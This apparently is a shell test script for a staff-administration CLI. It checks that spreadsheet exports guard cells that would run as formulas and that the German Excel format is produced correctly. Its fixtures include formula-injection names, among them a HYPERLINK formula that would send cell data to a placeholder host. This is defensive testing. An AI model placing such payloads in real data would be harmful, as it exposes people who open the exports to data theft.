#!/bin/sh
# Exports that spreadsheets open safely: cells that would run as formulas are
# guarded in every CSV and TSV hop writes, and German Excel gets its form
# (--excel, --format excel, [export] format = excel).
. "$(dirname "$0")/lib.sh"

cd "$SCRATCH" || exit 1
BOM=$(printf '\357\273\277')

expect_ok "init" init --name "Test Admin"
expect_ok "team" team add "Referat 11"
# Anyone may give themselves such a name; HR opens the export.
expect_ok "a name that is a formula" person add f1 --name '=HYPERLINK("http://x.invalid/?"&A1,"Klick")' --team "Referat 11"
expect_ok "a name that is a sum" person add f2 --name '@SUM(1+1)' --team "Referat 11"
expect_ok "a name that is arithmetic" person add f3 --name '-2+3' --team "Referat 11"
expect_ok "a plain name" person add jweiss --name 'Jürgen Weiß' --team "Referat 11"

# ---- every CSV and TSV: listings and exports ----
expect_ok "person list as CSV" person list --format csv
has "$OUT" "f1,\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"Klick\"\")\"," "=HYPERLINK is guarded in a listing"
has "$OUT" "f2,'@SUM(1+1)," "@SUM is guarded"
has "$OUT" "f3,'-2+3," "-2+3 is guarded"
has "$OUT" "jweiss,Jürgen Weiß," "a plain name is as it was"
expect_ok "person list as TSV" person list --format tsv
has "$OUT" "$(printf "f3\t'-2+3\t")" "guarded in TSV too"
expect_ok "person list as JSON" person list --format json
has "$OUT" '"-2+3"' "JSON is for programs: unchanged"
expect_ok "person list as a table" person list
hasnt "$OUT" "'-2+3" "the table for people: unchanged"
expect_ok "export people" export people
has "$OUT" "f3,'-2+3," "guarded in the export"
has "$OUT" "f2,'@SUM(1+1)," "@SUM is guarded in the export"
eq "$(head -c 5 "$OUT")" "login" "plain CSV has no byte-order mark"
# Dates and the numbers hop writes stay usable.
has "$OUT" "$(date +%Y)-" "dates as they were"

# The guarded export imports unchanged.
expect_ok "export to a file" export people people.csv
expect_ok "import the export" import people people.csv
has "$OUT" "added 0, updated 0, unchanged 5" "the export imports unchanged, formulas and all"
eq "$(sql "SELECT name FROM person WHERE login = 'f3'")" "-2+3" "the name kept without the guard"

# ---- German Excel ----
expect_ok "export people --excel" export people --excel
eq "$(head -c 3 "$OUT")" "$BOM" "a byte-order mark first"
has "$OUT" "${BOM}login;name;email;team;roles;start_date;end_date" "semicolons"
has "$OUT" "$(printf 'jweiss;Jürgen Weiß;;Referat 11;employee;')" "umlauts as UTF-8"
has "$OUT" "f3;'-2+3;" "guarded in the Excel form too"
eq "$(grep -c "$(printf '\r')\$" "$OUT")" "$(wc -l <"$OUT" | tr -d ' ')" "CRLF line ends"
expect_ok "export people --format excel to a file" export people --format excel excel.csv
eq "$(head -c 3 excel.csv)" "$BOM" "the file starts with the byte-order mark"
expect_ok "the Excel form imports again" import people excel.csv
has "$OUT" "unchanged 5" "unchanged"
expect_ok "export templates --excel" export templates --excel
eq "$(head -c 3 "$OUT")" "$BOM" "templates in the Excel form too"
expect_ok "person list --format excel" person list --format excel
eq "$(head -c 3 "$OUT")" "$BOM" "listings in the Excel form"
has "$OUT" "f3;'-2+3;" "guarded"
expect_fail "an unknown export format" 2 export people --format xlsx
has "$ERR" "--format is csv, tsv or excel, not 'xlsx'" "the usage error names the formats"
expect_fail "an unknown listing format" 2 person list --format xlsx
has "$ERR" "use table, csv, tsv, excel or json" "the usage error names the formats"

# [export] format = excel makes it the default; --format csv still wins.
printf '[export]\nformat = excel\n' > hop.ini
HOP_CONFIG=$PWD/hop.ini expect_ok "the configured default" export people
eq "$(head -c 3 "$OUT")" "$BOM" "[export] format = excel: the Excel form"
HOP_CONFIG=$PWD/hop.ini expect_ok "--format csv over the configuration" export people --format csv
eq "$(head -c 5 "$OUT")" "login" "plain CSV when asked for"
printf '[export]\nformat = xls\n' > bad.ini
HOP_CONFIG=$PWD/bad.ini expect_fail "a bad [export] format" 1 export people
has "$ERR" "[export] format" "the configuration error names the key"

finish
